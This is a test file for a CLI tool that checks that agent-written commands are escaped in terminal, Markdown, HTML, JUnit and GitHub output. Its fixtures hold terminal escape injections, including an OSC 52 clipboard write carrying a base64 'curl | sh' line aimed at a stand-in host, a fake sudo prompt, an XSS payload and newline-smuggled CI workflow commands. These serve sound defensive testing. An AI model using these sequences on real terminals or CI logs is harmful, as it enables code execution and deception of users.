import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { makeSandbox, runCordon, type Sandbox } from '../../../../test/support/cli.js';
import { markdownCell, markdownText } from '../../src/output/markdown.js';
import { displayName, terminalLines, terminalText } from '../../src/output/terminal.js';
import { workflowCommand } from '../../src/envelope/formats/github.js';
import { xmlText } from '../../src/envelope/formats/junit.js';
import { call, samples } from '../telemetry/reduce/helpers.js';
import { repo } from '../envelope/support.js';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

// Issue 29: a model-controlled command reaches `cordon reduce` and `cordon analyze` (text and
// Markdown) escaped, whatever control sequence it carries.

const T = 1_800_000_000_000;
/** OSC 52 clipboard write, a window-title change, a clear screen, and a C1 CSI (8-bit terminals). */
const HOSTILE = {
  clipboard: "printf 'x\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007'",
  title: "echo '\u001b]0;sudo password:\u0007'",
  clear: "echo '\u001b[2J\u001b[H'",
  c1: 'echo \u009b2J',
};
/** Raw HTML, a link and a table break for the Markdown report. */
const MARKUP = ['echo <img src=x onerror=alert(1)>', 'echo [click](https://evil.example)', 'a | b\n# heading'];

/** No ESC, BEL, C1 control or line break inside a printed line. */
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

describe('the terminal escaping', () => {
  it('a GitHub workflow command stays one line (no injected command); JUnit XML holds no control a parser refuses', () => {
    for (const output of Object.values(HOSTILE)) {
      const line = workflowCommand('error', { title: 'cordon: verifier_failed' }, `verifier failed\n${output}\r\n::set-output name=x::y`);
      expect(line.split(/[\r\n]/)).toHaveLength(1);
      expect(line).not.toContain('\n::');
      expect(xmlText(output)).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/);
    }
  });

  it('escapes every control, keeps ordinary text and line breaks of whole reports', () => {
    expect(terminalText(HOSTILE.clipboard)).toBe("printf 'x\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007'");
    expect(terminalText(HOSTILE.title)).toBe("echo '\\u001b]0;sudo password:\\u0007'");
    expect(terminalText(HOSTILE.clear)).toBe("echo '\\u001b[2J\\u001b[H'");
    expect(terminalText(HOSTILE.c1)).toBe('echo \\u009b2J');
    expect(terminalText('report\u202etxt.exe')).toBe('report\\u202etxt.exe');
    expect(terminalText('npm test -- --grep "a b"')).toBe('npm test -- --grep "a b"');
    expect(terminalLines('one\n\u001b[2Jtwo\r\nthree')).toBe('one\n\\u001b[2Jtwo\nthree');
    expect(terminalLines('FAIL\ttest_a\u0007\rover')).toBe('FAIL\ttest_a\\u0007\\u000dover');
    expect(displayName('a"b')).toBe('"a\\"b"');
    expect(displayName('plain')).toBe('plain');
  });

  it('escapes Markdown markup, raw HTML and table breaks so they render as text', () => {
    expect(markdownCell(MARKUP[0]!)).toBe('echo \\<img src=x onerror=alert(1)\\>');
    expect(markdownCell(MARKUP[1]!)).toBe('echo \\[click\\](https://evil.example)');
    // The escape of the line break is itself escaped, so it renders as the text `\u000a`.
    expect(markdownCell(MARKUP[2]!)).toBe('a \\| b\\\\u000a\\# heading');
    expect(markdownText('- item')).toBe('\\- item');
    expect(markdownText('1. item')).toBe('1\\. item');
    expect(markdownText('`code` *em* &amp; @team')).toBe('\\`code\\` \\*em\\* \\&amp; \\@team');
    expect(markdownCell('pytest -q')).toBe('pytest -q');
  });
});

let sandbox: Sandbox;
beforeEach(() => {
  sandbox = makeSandbox('cordon-hostile-text-');
  const commands = [...Object.values(HOSTILE), ...MARKUP];
  commands.forEach((command, i) => call(sandbox.dataDir, 'evil-session', `k${i}`, T + 1000 * i, T + 1000 * i + 500, { command }));
  call(sandbox.dataDir, 'evil-session', 'tool', T + 20_000, T + 20_500, { tool_name: 'Bash\u001b]0;x\u0007', command: 'ls' });
  samples(sandbox.dataDir, 'evil-session', Array.from({ length: 100 }, (_, i) => ({ t: T + 250 * i, mb: 100 })));
});
afterEach(() => sandbox.cleanup());

describe('reduce and analyze print what an agent wrote escaped', () => {
  it('cordon reduce (the fast route and oclif) escapes commands and tool names', async () => {
    for (const args of [['reduce', '--session', 'evil-session'], ['reduce', '--session', 'evil-session', '--db', `${sandbox.dataDir}/other.sqlite3`]]) {
      const r = await runCordon(args, { env: sandbox.env });
      expect(r.exitCode, r.stderr).toBe(0);
      for (const line of r.stdout.split('\n')) expect(line).not.toMatch(CONTROL);
      expect(r.stdout).toContain("printf 'x\\u001b]52;c;");
      expect(r.stdout).toContain('\\u009b2J');
      expect(r.stdout).toContain('Bash\\u001b]0;x\\u0007');
    }
  }, 120_000);

  it('cordon analyze text escapes for the terminal, --format md for Markdown', async () => {
    const text = await runCordon(['analyze', '--session', 'evil-session'], { env: sandbox.env });
    expect(text.exitCode, text.stderr).toBe(0);
    for (const line of text.stdout.split('\n')) expect(line).not.toMatch(CONTROL);
    expect(text.stdout).toContain("printf 'x\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007'");
    const md = await runCordon(['analyze', '--session', 'evil-session', '--format', 'md'], { env: sandbox.env });
    expect(md.exitCode, md.stderr).toBe(0);
    expect(md.stdout).not.toContain('<img');
    expect(md.stdout).not.toContain('](https://evil');
    for (const line of md.stdout.split('\n')) expect(line).not.toMatch(CONTROL);
    // Every table row still has its column count: no cell was split by a `|` or a line break.
    for (const line of md.stdout.split('\n').filter((l) => l.startsWith('| ') && l.includes('Bash'))) {
      expect(line.split(/(?<!\\)\|/).length).toBeGreaterThan(2);
    }
  }, 120_000);

  // Found by a hostile-input probe: the text report escaped each line but kept a line break in a
  // cell, so a session id or tool name `x\n::error::…` split its table row, and the part after
  // the break started a line of its own (a GitHub workflow command, were the report in a CI log).
  it('cordon analyze text keeps every table row on one line when a cell holds a line break', async () => {
    const session = 'evil\n::error::session';
    call(sandbox.dataDir, session, 'nl', T, T + 500, { tool_name: 'T\n::error::tool', command: 'c\r\n::error::command' });
    samples(sandbox.dataDir, session, Array.from({ length: 20 }, (_, i) => ({ t: T - 1000 + 250 * i, mb: 50 + i })));
    const text = await runCordon(['analyze', '--all'], { env: sandbox.env });
    expect(text.exitCode, text.stderr).toBe(0);
    expect(text.stdout.split('\n').filter((line) => line.trimStart().startsWith('::'))).toEqual([]);
    expect(text.stdout).toMatch(/^T\\u000a::error::tool +1 /m);
    expect(text.stdout).toMatch(/^evil\\u000a::error::session +claude-code +1 /m);
  }, 120_000);

  // Found by a hostile-input probe: the HTML report escaped markup but kept ESC, BEL and a
  // session id's line break raw (`cat report.html` ran them).
  it('cordon analyze --format html escapes controls and bidi characters too, besides markup', async () => {
    call(sandbox.dataDir, 'evil-session', 'k-bidi', T + 1500, T + 1600, { tool_name: 'Edit\u202ex', command: 'cat report.txt' });
    const html = await runCordon(['analyze', '--session', 'evil-session', '--format', 'html'], { env: sandbox.env });
    expect(html.exitCode, html.stderr).toBe(0);
    for (const line of html.stdout.split('\n')) expect(line).not.toMatch(CONTROL);
    expect(html.stdout).not.toContain('\u202e');
    expect(html.stdout).toContain("printf &#39;x\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007&#39;");
    expect(html.stdout).toContain('<td>Edit\\u202ex</td>');
  }, 120_000);

  // Found by a hostile-input probe: a verifier command holding a line break printed it raw in
  // `status` and in a rejected verdict, so the command's text could start a line (`::error::…`).
  it('cordon status and check print a verifier command with a line break on one line', async () => {
    const dir = repo({ 'src/a.txt': 'a\n' });
    const command = "sh -c 'exit 1' \"x\n::error::injected\"";
    expect((await runCordon(['arm', 'x', '--allow', 'src/**', '--verify', command], { cwd: dir, env: sandbox.env })).exitCode).toBe(0);
    writeFileSync(join(dir, 'src/a.txt'), 'b\n');
    const status = await runCordon(['status'], { cwd: dir, env: sandbox.env });
    expect(status.stdout).toContain(`verify: sh -c 'exit 1' "x\\u000a::error::injected"`);
    const check = await runCordon(['check'], { cwd: dir, env: sandbox.env });
    expect(check.exitCode).toBe(3);
    for (const out of [status.stdout, check.stdout]) expect(out.split('\n').filter((line) => line.startsWith('::'))).toEqual([]);
    expect(check.stdout).toContain('\\u000a::error::injected');
  }, 120_000);

  it('JUnit XML and HTML text show controls and bidi characters as escapes; line breaks and tabs stay', () => {
    expect(xmlText('a\u001b]0;t\u0007 b\u202ec\nd\te<')).toBe('a\\u001b]0;t\\u0007 b\\u202ec\nd&#9;e&lt;');
  });
});

describe('the plain-ASCII shortcut of terminalText, terminalLines and displayName', () => {
  // The definition the functions implement (src/output/terminal.ts), built here on every call.
  const UNSHOWN = String.raw`[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}\p{Cn}\u034f\u115f\u1160\u17b4\u17b5\u3164\uffa0]|[^\S ]`;
  const units = (c: string) => Array.from({ length: c.length }, (_, i) => `\\u${c.charCodeAt(i).toString(16).padStart(4, '0')}`).join('');
  // The CI rule (actions/runner ActionCommand), spelt here apart from ciInert: `::` at a line's
  // start after blanks, `##[` anywhere; the line is escaped first, so blanks are spaces (and tabs
  // in terminalLines).
  const inert = (line: string) => line.replace(/^([ \t]*):(?=:)/, '$1\\u003a').replaceAll('##[', '\\u0023#[');
  const text = fc.oneof(fc.string({ unit: fc.integer({ min: 0, max: 0x7f }).map((n) => String.fromCharCode(n)) }), fc.string({ unit: 'binary' }), fc.string({ unit: 'grapheme-ascii' }));
  it('escape exactly what the full expressions escape, for ASCII and any other text', () => {
    fc.assert(
      fc.property(text, (s) => {
        expect(terminalText(s)).toBe(inert(s.replace(new RegExp(UNSHOWN, 'gu'), units)));
        const expectedLines = s
          .split(/\r?\n/)
          .map((line) => inert(line.replace(new RegExp(`(?!\\t)(?:${UNSHOWN})`, 'gu'), units)))
          .join('\n');
        expect(terminalLines(s)).toBe(expectedLines);
        const plain = !new RegExp(UNSHOWN, 'u').test(s) && !s.includes('"') && inert(s) === s;
        expect(displayName(s)).toBe(plain ? s : terminalText(JSON.stringify(s)));
      }),
      { numRuns: 500 },
    );
    expect(terminalText('a\tb\u007f~')).toBe('a\\u0009b\\u007f~');
    expect(terminalLines('a\tb\r\nc\u001b')).toBe('a\tb\nc\\u001b');
    // The CI rule on the plain path too (CI met `::` drawn from ASCII).
    expect(terminalText('::')).toBe('\\u003a:');
    expect(terminalLines(' \t::x\n###[y')).toBe(' \t\\u003a:x\n#\\u0023#[y');
    expect(displayName('::error::x')).toBe('"::error::x"');
  });
});
